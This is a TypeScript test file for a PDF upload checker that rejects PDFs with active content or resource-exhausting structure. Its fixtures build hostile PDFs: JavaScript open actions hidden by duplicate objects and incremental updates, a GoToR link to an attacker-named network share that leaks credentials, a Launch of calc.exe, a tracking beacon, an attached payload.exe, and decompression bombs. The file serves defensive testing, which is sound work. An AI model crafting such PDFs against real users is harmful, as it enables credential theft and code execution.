import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { activeContentKinds, catalogWith, pdfWithCatalog, pdfWithHiddenOpenAction, plainPdf, withUpdate } from '#test/support/pdfs.ts';
import { craftedActions, nestedDeflateBomb, objectStreamBomb, oneContract, streamBody } from '#test/support/crafted-pdfs.ts';
import { maxPdfPages } from '#shared/files/pdf.ts';
import { deflateSync } from 'node:zlib';
import { crafted } from '#test/support/pdfs-active.ts';
import { pdfBounds } from './pdf-bounds';
import { checkPdf, measurePdf } from './pdf-check';

async function pdfWithPages(pages: number, useObjectStreams = true): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  for (let page = 0; page < pages; page++) document.addPage();
  return document.save({ useObjectStreams });
}

describe('checkPdf', () => {
  it('accepts a real PDF and counts its pages', async () => {
    expect(await checkPdf(await pdfWithPages(3))).toEqual({ ok: true, pages: 3 });
    expect(await checkPdf(await pdfWithPages(1, false))).toEqual({ ok: true, pages: 1 });
  });

  it('refuses a text file, a file that only starts like a PDF, and a truncated PDF', async () => {
    const real = await pdfWithPages(2);
    for (const bytes of [
      new TextEncoder().encode('Dear Dr. Smith, we are pleased…'),
      new TextEncoder().encode('%PDF-1.7\nnot really'),
      real.slice(0, 300),
    ]) {
      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'unreadable' });
    }
  });

  it('tells an encrypted PDF apart', async () => {
    const text = new TextDecoder('latin1').decode(await pdfWithPages(1, false));
    const encrypted = text.replace(/trailer\s*<</, 'trailer\n<<\n/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>');
    expect(await checkPdf(Uint8Array.from(encrypted, (character) => character.charCodeAt(0)))).toEqual({ ok: false, reason: 'encrypted' });
  });

  it.each(Object.entries(activeContentKinds))('refuses a PDF with active content: %s', async (_, addition) => {
    expect(await checkPdf(await pdfWithCatalog(addition))).toEqual({ ok: false, reason: 'activeContent' });
  });

  it('finds a script inside a compressed object stream too', async () => {
    const document = await PDFDocument.create();
    document.addPage();
    const action = document.context.obj({ S: PDFName.of('JavaScript'), JS: PDFString.of('app.alert(1)') });
    document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
    const bytes = await document.save({ useObjectStreams: true });
    expect(Buffer.from(bytes).toString('latin1')).not.toContain('/JavaScript');
    expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
  });

  it('accepts what ordinary contracts carry: an /OpenAction that only opens a page, and web links', async () => {
    for (const addition of ['/OpenAction [3 0 R /Fit]', '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>', '/URI << /Base (https://example.test/) >>']) {
      expect(await checkPdf(await pdfWithCatalog(addition)), addition).toEqual({ ok: true, pages: 1 });
    }
  });

  describe('judged as viewers resolve it too (issue 27 §3)', () => {
    const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

    it('refuses an object defined twice whose cross-referenced copy holds a script, whichever copy comes first', async () => {
      const { text, catalog, catalogBody, page } = await plainPdf();
      const opened = { number: catalog, body: catalogWith(catalogBody, '/OpenAction 9 0 R') };
      // The xref names the script; a later copy of 9 that nothing references shadows it in a file-order parse.
      const earlierScript = withUpdate(text, [opened, { number: 9, body: script }], `9 0 obj\n<< /S /GoTo /D [${page} 0 R /Fit] >>\nendobj\n`);
      // The reverse: an unreferenced innocent copy first, the referenced script after it.
      const laterScript = withUpdate(`${text}9 0 obj\n<< /S /GoTo /D [${page} 0 R /Fit] >>\nendobj\n`, [opened, { number: 9, body: script }]);
      for (const bytes of [earlierScript, laterScript]) expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('refuses a script even in a copy no cross-reference section names (every definition is read)', async () => {
      const { text, catalog, catalogBody, page } = await plainPdf();
      const bytes = withUpdate(`${text}9 0 obj\n${script}\nendobj\n`, [
        { number: catalog, body: catalogWith(catalogBody, '/OpenAction 9 0 R') },
        { number: 9, body: `<< /S /GoTo /D [${page} 0 R /Fit] >>` },
      ]);
      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('refuses an incremental update that adds a JavaScript /OpenAction where a file-order parse does not look', async () => {
      // The action sits at the end of a comment line (pdfWithHiddenOpenAction): only the update's xref leads to it.
      const bytes = await pdfWithHiddenOpenAction();
      expect(bytes.toString('latin1')).toMatch(/% a comment, then 9 0 obj\n<< \/S \/JavaScript/);
      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('refuses an XFA form', async () => {
      const { text, catalog, catalogBody } = await plainPdf();
      const xdp = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/></xdp:xdp>';
      const bytes = withUpdate(text, [
        { number: catalog, body: catalogWith(catalogBody, '/AcroForm << /Fields [] /XFA 9 0 R >>') },
        { number: 9, body: `<< /Length ${xdp.length} >>\nstream\n${xdp}\nendstream` },
      ]);
      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
    });

    /** A one-page PDF whose page carries a link annotation with `link` (its /A, /Dest…). */
    async function pdfWithLinks(...links: Record<string, unknown>[]): Promise<Uint8Array> {
      const document = await PDFDocument.create();
      const page = document.addPage();
      const annotations = links.map((link) =>
        document.context.register(
          document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], ...link } as never),
        ),
      );
      page.node.set(PDFName.of('Annots'), document.context.obj(annotations));
      return document.save();
    }
    const action = (fields: Record<string, unknown>) => ({ A: fields });

    it("refuses a GoToR link (a remote file on a share: the viewer's network credentials leak)", async () => {
      const bytes = await pdfWithLinks(action({ S: 'GoToR', F: PDFString.of('\\\\files.attacker.test\\share\\offer.pdf'), D: [0, 'Fit'] }));
      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('refuses an annotation whose /A runs something: a javascript: address, a Launch, a Named menu item', async () => {
      for (const runs of [
        { S: 'URI', URI: PDFString.of('javascript:app.alert(1)') },
        { S: 'Launch', F: PDFString.of('calc.exe') },
        { S: 'Named', N: 'SaveAs' },
      ]) {
        expect(await checkPdf(await pdfWithLinks(action(runs))), String(runs.S)).toEqual({ ok: false, reason: 'activeContent' });
      }
    });

    it('refuses a form field whose /AA opens an address when the pointer enters it', async () => {
      const document = await PDFDocument.create();
      const page = document.addPage();
      const field = document.getForm().createTextField('name');
      field.addToPage(page);
      const beacon = document.context.obj({ S: 'URI', URI: PDFString.of('https://tracker.test/opened') });
      (field.acroField.dict as PDFDict).set(PDFName.of('AA'), document.context.obj({ E: beacon }));
      expect(await checkPdf(await document.save())).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('refuses a file attachment annotation (a file the viewer offers to open)', async () => {
      const document = await PDFDocument.create();
      const page = document.addPage();
      const fileSpec = document.context.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), UF: PDFHexString.fromText('payload.exe') });
      const attachment = document.context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [72, 700, 90, 720],
        FS: fileSpec,
        Name: 'Paperclip',
      });
      page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(attachment)]));
      expect(await checkPdf(await document.save())).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('accepts what ordinary contracts carry: web and mail links, internal jumps, a form field without actions', async () => {
      const document = await PDFDocument.create();
      const first = document.addPage();
      const second = document.addPage();
      const links = [
        { A: { S: 'URI', URI: PDFString.of('https://www.example.test/benefits') } },
        { A: { S: 'URI', URI: PDFString.of('mailto:hr@example.test') } },
        { A: { S: 'GoTo', D: [second.ref, 'Fit'] } },
        { Dest: [second.ref, 'XYZ', 0, 800, 0] },
      ].map((link) =>
        document.context.register(
          document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], ...link } as never),
        ),
      );
      first.node.set(PDFName.of('Annots'), document.context.obj(links));
      document.getForm().createTextField('signature.name').addToPage(second);
      document.catalog.set(PDFName.of('OpenAction'), document.context.obj([first.ref, PDFName.of('Fit')]));
      expect(await checkPdf(await document.save())).toEqual({ ok: true, pages: 2 });
      expect(await checkPdf(await document.save({ useObjectStreams: false }))).toEqual({ ok: true, pages: 2 });
    });
  });

  describe('names read as viewers read them, and what a file may cost (issue 36)', () => {
    it.each(Object.entries(craftedActions))('refuses %s', async (_name, bytes) => {
      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
    });

    it.each(Object.entries(crafted))('refuses what the rebuild disarms too: %s', async (_name, make) => {
      expect(await checkPdf(await make())).toEqual({ ok: false, reason: 'activeContent' });
    });

    it('still accepts the same contract with an /OpenAction that only opens its first page, the page named by reference', async () => {
      const opensPage = oneContract('/OpenAction [3 0 R /Fit]');
      expect(await checkPdf(opensPage)).toEqual({ ok: true, pages: 1 });
      const goTo = oneContract('/OpenAction 9 0 R', [
        { number: 9, body: '<< /S 10 0 R /D [3 0 R /Fit] >>' },
        { number: 10, body: '/GoTo' },
      ]);
      expect(await checkPdf(goTo)).toEqual({ ok: true, pages: 1 });
    });

    it("refuses an object stream that inflates past one stream's bound, quickly and as unreadable", async () => {
      const bomb = objectStreamBomb(pdfBounds.maxStreamBytes / 1024 / 1024 + 8);
      expect(bomb.length).toBeLessThan(1024 * 1024);
      const started = performance.now();
      expect(await checkPdf(bomb)).toMatchObject({ ok: false, reason: 'unreadable' });
      // A bound measured, not a time: the refusal comes after about the bound's worth of inflating.
      expect(performance.now() - started).toBeLessThan(20_000);
    }, 60_000);

    it("refuses a stream compressed twice to inflate (past one layer of Deflate's ratio)", async () => {
      expect(await checkPdf(nestedDeflateBomb(64))).toMatchObject({ ok: false, reason: 'unreadable' });
    });

    it('refuses streams whose filter is unknown or given by reference, and keeps the ones viewers decode', async () => {
      const text = Buffer.from('BT /F1 14 Tf 72 720 Td (Employment Agreement) Tj ET', 'latin1');
      const withContent = (entries: string, data: Buffer) => oneContract('', [{ number: 9, body: streamBody(entries, data) }], '/Thumb 9 0 R');
      expect(await checkPdf(withContent('/Filter /FlateDecode', deflateSync(text)))).toEqual({ ok: true, pages: 1 });
      expect(await checkPdf(withContent('/Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from(deflateSync(text).toString('hex') + '>')))).toEqual({
        ok: true,
        pages: 1,
      });
      expect(await checkPdf(withContent('/Filter /MadeUpDecode', text))).toMatchObject({ ok: false, reason: 'unreadable' });
      expect(await checkPdf(withContent('/Filter 10 0 R', deflateSync(text)))).toMatchObject({ ok: false, reason: 'unreadable' });
    });

    it('counts a stream whose /Length is a reference by what it decodes to, not by the rest of the file', async () => {
      const text = Buffer.from('BT /F1 14 Tf 72 720 Td (Employment Agreement) Tj ET', 'latin1');
      const padding = Buffer.alloc(4 * 1024 * 1024, 0x20);
      // 200 undecoded streams with an indirect length before 4 MB of padding: counted as 200 streams, not 200 × 4 MB.
      const streams = Array.from({ length: 200 }, (_, i) => ({
        number: 20 + i,
        body: Buffer.concat([Buffer.from('<< /Length 10 0 R >>\nstream\n', 'latin1'), text, Buffer.from('\nendstream', 'latin1')]),
      }));
      const file = oneContract('', [{ number: 10, body: String(text.length) }, ...streams, { number: 300, body: streamBody('', padding) }]);
      const measured = await measurePdf(file);
      expect(measured).toMatchObject({ ok: true });
      expect((measured as { decodedBytes: number }).decodedBytes).toBeLessThan(file.length * 2);
      expect(await checkPdf(file)).toEqual({ ok: true, pages: 1 });
    });

    it(`refuses more than ${maxPdfPages} pages with the page limit's own reason, and accepts ${maxPdfPages}`, async () => {
      expect(await checkPdf(await pdfWithPages(maxPdfPages))).toEqual({ ok: true, pages: maxPdfPages });
      expect(await checkPdf(await pdfWithPages(maxPdfPages + 1))).toEqual({ ok: false, reason: 'tooManyPages' });
    }, 30_000);

    it('counts the pages a page tree holds, not what its /Count claims (pdf-lib walks the tree; pdf.js checks its last page)', async () => {
      const claimed = oneContract('')
        .toString('latin1')
        .replace('/Count 1', `/Count ${maxPdfPages + 1}`);
      expect(await checkPdf(Buffer.from(claimed, 'latin1'))).toEqual({ ok: true, pages: 1 });
    });
  });
});
